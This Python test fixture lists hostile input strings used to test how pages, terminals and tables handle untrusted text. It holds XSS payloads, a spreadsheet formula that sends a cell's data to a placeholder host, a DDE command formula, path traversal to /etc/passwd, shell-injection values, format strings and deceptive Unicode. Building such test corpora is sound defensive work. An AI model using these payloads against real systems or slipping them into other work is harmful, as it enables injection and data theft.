r"""Texts of strangers that mean harm to a page, a terminal or a table. Each page is tested with all of them.

A text that runs as script sets `window.__pwned`. All are written here with escapes, so that this file is harmless.
"""

from __future__ import annotations

_RUN = "window.__pwned=1;alert(1)"

TEXTS: dict[str, str] = {
    # What HTML would read as more than text.
    "script": f"<script>{_RUN}</script>",
    "script in capitals": f"<SCRIPT >{_RUN}</SCRIPT\t>",
    "end of a script": f"</script><script>{_RUN}</script>",
    "end of a style": f"</style><script>{_RUN}</script>",
    "end of a title": f"</title><script>{_RUN}</script>",
    "end of a text area": f"</textarea></select></noscript></template><script>{_RUN}</script>",
    "end of a table": f"</td></tr></table></main></body></html><script>{_RUN}</script>",
    "comment": f"--><script>{_RUN}</script><!--",
    "open comment": "<!-- the rest of the page",
    "open script comment": "<!--<script>",
    "character data": f"]]><script>{_RUN}</script><![CDATA[",
    "image handler": f"<img src=x onerror={_RUN}>",
    "svg handler": f"<svg/onload={_RUN}>",
    "frame": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "details handler": f"<details open ontoggle={_RUN}>",
    "focus handler": f"<input autofocus onfocus={_RUN}>",
    "base and refresh": "<base href=//other.invalid/><meta http-equiv=refresh content='0;url=//other.invalid/'>",
    "remote parts": "<link rel=stylesheet href=//other.invalid/a.css><img src=//other.invalid/a.png>",
    "form": "<form action=//other.invalid/><button>send</button></form>",
    "double quote": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "single quote": f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}' x='",
    "back quote": f"` onmouseover=`{_RUN}` ${{{_RUN}}}",
    "backslash quote": f'\\"];{_RUN};//',
    "script line ends": f"';\u2028{_RUN};\u2029//",
    "javascript address": f"javascript:{_RUN}",
    "javascript address with a tab": f" java\tscript:{_RUN}//https://example.org/",
    "data address": f"data:text/html,<script>{_RUN}</script>",
    "references": "&lt;script&gt;&#60;script&#62;&amp;lt;&#x202e;&nbsp",
    "template": "{{7*7}}{% raw %}{{ self }}{# #}${7*7}#{7*7}<%= 7*7 %>[[7*7]]",
    "style address": "</style>@import url(//other.invalid/a.css);*{background:url(//other.invalid/b.png)}",
    "prototype": '{"__proto__": {"x": 1}, "constructor": {"prototype": 1}} __proto__',
    # Characters that act.
    "right-to-left override": "invoice \u202egpj.exe\u202c\u202e and on",
    "arabic letter mark": "12 \u061c- 3\u061c a",
    "open isolates": "a \u2066 b \u2067 c \u2068 d \u202a e \u202b",
    "closed isolates": "\u2069\u2069\u202c\u202c out of the box",
    "controls": "".join(map(chr, [*range(1, 32), *range(127, 160)])),
    "nul": "before\x00behind\x00",
    "escape sequences": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://other.invalid/\x1b\\link\x1b]8;;\x1b\\\x9b2J",
    "carriage returns": "shown\rhidden\r\n\x0b\x0c\x85new line",
    "lone surrogates": "\ud800 high \udc00 low \udc00\ud800 turned",
    "not characters": "\ufffe \uffff \ufdd0 \U0010ffff \ufffd \ufeff \ufff9a\ufffab\ufffb",
    "tags": "flag \U0001f3f4" + "".join(chr(0xE0000 + ord(char)) for char in "ignore this") + "\U000e007f",
    "zero width": "zero\u200bwidth\u200cnot\u200djoined\u2060by\u00adhyphens\u180e" + "\u200b" * 300,
    "invisible": "\u2800\u3164\u115f\u1160\uffa0\u17b4\u034f",
    # What breaks lines and boxes.
    "long word": "W" * 100_000,
    "long link": "https://example.org/" + "a/b?c=d&" * 2_000,
    "no-break spaces": "never\u00a0broken\u202f\u2007" * 2_000,
    "megabyte": "one more word " * 75_000,
    "megabyte of CJK": "\u91cd\u590d\u7684\u6d88\u606f" * 70_000,
    "many lines": "line\n" * 20_000,
    "many tabs": "\t" * 5_000 + "x",
    "towers of marks": "".join(
        char + "".join(chr(0x300 + (i * 7 + j) % 112) for j in range(60))
        for i, char in enumerate("ZALGO towers" * 5)
    ),
    "wide signs": "\ufdfd" * 400 + "\u2e3b" * 400 + "\U0001242b" * 200,
    "right to left": "\u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd abc 123 (\u0645) " * 60,
    "emoji sequences": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308\U0001f1e8\U0001f1f3"
    "\U0001f44d\U0001f3ff1\ufe0f\u20e3" * 50,
    # Each of these is one character to whoever breaks lines.
    "joined emoji": "\U0001f468\u200d" * 600,
    "joined consonants": "\u0915\u094d" * 900,
    "joined syllables": "\u1100" * 900 + "\u1161",
    "marks with a width": "\u0b95" + "\u0bbe" * 900,
    "selectors": "a" + "\ufe0f" * 2_000 + "b" + "\U000e0100" * 2_000,
    # What other programs would run, or nothing at all.
    "formula": '=HYPERLINK("http://other.invalid/?"&A1,"click")',
    "command formula": "+cmd|' /C calc'!A0\t-1+1\t@SUM(1)",
    "path": "../../../../etc/passwd\x00.html",
    "shell": "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | x && x",
    "format": "%s%n%x {0} {0.__class__} %(x)s",
    "line like a log": '\nlevel=error msg="all is lost"\n',
    "line like a row": "\tsame\t1\n1\t2\tsame\n",
    "empty": "",
    "space": " \t\n ",
}
"""A text of each kind by its name."""

UNBREAKABLE = {"joined emoji", "joined consonants", "joined syllables", "marks with a width"}
"""Names of texts that hold a character wider than a window, which is cut."""
